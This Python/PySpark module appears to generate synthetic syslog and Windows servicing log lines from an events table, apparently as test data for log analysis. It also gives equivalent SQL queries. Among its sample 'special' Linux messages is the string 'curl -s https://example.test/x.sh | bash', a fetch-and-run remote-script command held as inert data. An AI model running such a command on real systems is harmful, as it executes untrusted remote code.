"""Log lines derived from the ``events`` table.

The test tables hold no logs, so an event becomes a log line: the user picks the
source file, the event type the process, and the message follows from type and
id.  ``sql_lines`` states the same projection for the SQL side.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession

from augurlog.functions.rules import quoted
from augurlog.session import spread

SOURCES = 4
SPECIAL_EVERY = 131

PROCESSES = {
    "linux": {"view": "sshd", "click": "systemd", "error": "kernel", "purchase": "cron.d", "signup": "rsyslogd"},
    "mac": {"view": "mDNSResponder", "click": "com.apple.xpc.launchd", "error": "kernel", "purchase": "powerd", "signup": "configd"},
    "windows": {"view": "CBS", "click": "CSI", "error": "DPX", "purchase": "WUSA", "signup": "DISM"},
}

BENIGN = {
    "linux": [
        "session opened for user app", "Started daily job", "job done, rc=0", "link up at 1000 Mbps",
        "reloaded configuration", "health probe ok", "fetched https://mirror.local/index", "cache refreshed",
        "installed helper.sh", "panic button test: none",
    ],
    "mac": [
        "Wake reason: lid", "configuration updated", "service exited cleanly", "query took 1500 units",
        "channel changed to 6", "memory pressure nominal", "power state ok", "Link Down on en3",
        "measured in ms", "lookup done",
    ],
    "windows": [
        "Starting TrustedInstaller initialization.", "Read out cached package applicability", "Session: 3061 initialized",
        "Warning: slow disk", "Loaded component store", "Reboot mark cleared", "security audit passed",
        "service start requested", "Windows Update client ready", "manifest read",
    ],
}

SPECIAL = {
    "linux": [
        "ALERT worker exited abnormally with [1]", "segfault at 0 ip 0", "Failed password for invalid user bob",
        "Accepted password for root from 10.0.0.9", "sudo: deploy : USER=root ; COMMAND=/bin/ls",
        "curl -s https://example.test/x.sh | bash", "iptables DROP rule added", "[UFW BLOCK] IN=eth0",
        "EXT4-fs error (device sda1)", "audit apparmor=\"DENIED\" op", "Out of memory: kill process",
        "Kernel panic - not syncing: fatal", "Connection refused by peer", "request timed out",
        "ALERT raised by watchdog", "child exited abnormally", "wget started", "sudo: auth check",
    ],
    "mac": [
        "Sandbox: app(33) deny file-read", "Kernel panic report", "disk0s2: I/O error", "AirPort: fail to join",
        "memory pressure state: 3", "thermal pressure state: 4", "app crashed", "access denied by policy",
        "DNS lookup will fail", "USB device disconnect", "mDNS: Frequent transitions seen",
        "PM response took 2500 of 30 ms", "jetsam reclaim", "asked to kill task", "thermal monitor",
        "critical level", "PM response took long",
    ],
    "windows": [
        "failed to open package", "CBS_E_MANIFEST_INVALID_ITEM", "update failure code", "corrupted component found",
        "SFC found nothing", "service crash at start", "access denied to hive", "HRESULT = 0x80070002",
        "HRESULT = 0x8abcdef1", "installation failed", "reboot is pending", "store damage detected", "caution: low space",
    ],
}


def rendered_year() -> int:
    """All events are in this year; rendered syslog lines do not carry it."""
    return 2024


def _array(texts: list[str]) -> str:
    return "array(" + ", ".join(quoted(t) for t in texts) + ")"


def _message(d: str) -> str:
    special, benign = SPECIAL[d], BENIGN[d]
    return f"""concat(CASE WHEN event_id % {SPECIAL_EVERY} < {len(special)}
        THEN try_element_at({_array(special)}, int(event_id % {SPECIAL_EVERY}) + 1)
        ELSE element_at({_array(benign)}, int(event_id % {len(benign)}) + 1) END, ' #', event_id % 97)"""


def event_lines(spark: SparkSession, sf_dir: str, dialect: str = "linux") -> DataFrame:
    """``source_file, line_no, ts, host, process, pid, message, value``."""
    events = spread(spark.read.parquet(f"{sf_dir}/events.parquet").drop("props"), "event_id")
    host = f"concat('host', user_id % {SOURCES})"
    kinds = " ".join(f"WHEN '{k}' THEN '{v}'" for k, v in PROCESSES[dialect].items())
    name = f"CASE event_type {kinds} ELSE 'other' END"
    return events.selectExpr(
        f"{host} AS source_file",
        "event_id AS line_no",
        "CAST(date_trunc('second', ts) AS TIMESTAMP_NTZ) AS ts",
        f"{host} AS host",
        # some ids get a numbered variant, so there are more processes than places
        f"CASE WHEN event_id % 5 = 0 THEN concat({name}, '_', event_id % 17) ELSE {name} END AS process",
        "CAST(event_id % 1000 + 100 AS STRING) AS pid",
        f"{_message(dialect)} AS message",
        "value",
    )


def rendered_lines(spark: SparkSession, sf_dir: str, dialect: str = "linux") -> DataFrame:
    """``source_file, line_no, raw``: the lines as a log file holds them.

    Some lines have no pid, some are free text; servicing logs get continuation
    lines (every seventh event is a line without header).
    """
    lines = event_lines(spark, sf_dir, dialect)
    if dialect == "windows":
        raw = """CASE WHEN line_no % 7 = 3 THEN concat('CSIPERF:TXCOMMIT;', line_no)
            ELSE concat(date_format(ts, 'yyyy-MM-dd HH:mm:ss'), ', Info                  ', process, '    ', message) END"""
    else:
        raw = """CASE WHEN line_no % 41 = 7 THEN concat('-- marker ', line_no)
            ELSE concat(date_format(ts, 'MMM dd HH:mm:ss'), ' ', host, ' ', process,
                        CASE WHEN line_no % 3 = 0 THEN '' ELSE concat('[', pid, ']') END, ': ', message) END"""
    return lines.selectExpr("source_file", "line_no", f"{raw} AS raw")


def _quoted(texts: list[str]) -> str:
    return "[" + ", ".join("'" + t.replace("'", "''") + "'" for t in texts) + "]"


def sql_lines(dialect: str = "linux") -> str:
    """A SELECT over ``events`` that equals ``event_lines``."""
    cases = " ".join(f"WHEN '{k}' THEN '{v}'" for k, v in PROCESSES[dialect].items())
    name = f"CASE event_type {cases} ELSE 'other' END"
    special, benign = SPECIAL[dialect], BENIGN[dialect]
    return f"""
    SELECT 'host' || (user_id % {SOURCES}) AS source_file,
           event_id AS line_no,
           date_trunc('second', ts) AS ts,
           'host' || (user_id % {SOURCES}) AS host,
           CASE WHEN event_id % 5 = 0 THEN {name} || '_' || (event_id % 17) ELSE {name} END AS process,
           CAST(event_id % 1000 + 100 AS VARCHAR) AS pid,
           CASE WHEN event_id % {SPECIAL_EVERY} < {len(special)}
                THEN ({_quoted(special)})[CAST(event_id % {SPECIAL_EVERY} AS INT) + 1]
                ELSE ({_quoted(benign)})[CAST(event_id % {len(benign)} AS INT) + 1]
           END || ' #' || (event_id % 97) AS message,
           value
    FROM events"""


def sql_rendered(dialect: str = "linux") -> str:
    """A SELECT over ``events`` that equals ``rendered_lines``."""
    if dialect == "windows":
        return f"""
    SELECT source_file, line_no,
           CASE WHEN line_no % 7 = 3 THEN 'CSIPERF:TXCOMMIT;' || line_no
                ELSE strftime(ts, '%Y-%m-%d %H:%M:%S') || ', Info                  ' || process || '    ' || message
           END AS raw
    FROM ({sql_lines(dialect)})"""
    return f"""
    SELECT source_file, line_no,
           CASE WHEN line_no % 41 = 7 THEN '-- marker ' || line_no
                ELSE strftime(ts, '%b %d %H:%M:%S') || ' ' || host || ' ' || process ||
                     CASE WHEN line_no % 3 = 0 THEN '' ELSE '[' || pid || ']' END || ': ' || message
           END AS raw
    FROM ({sql_lines(dialect)})"""
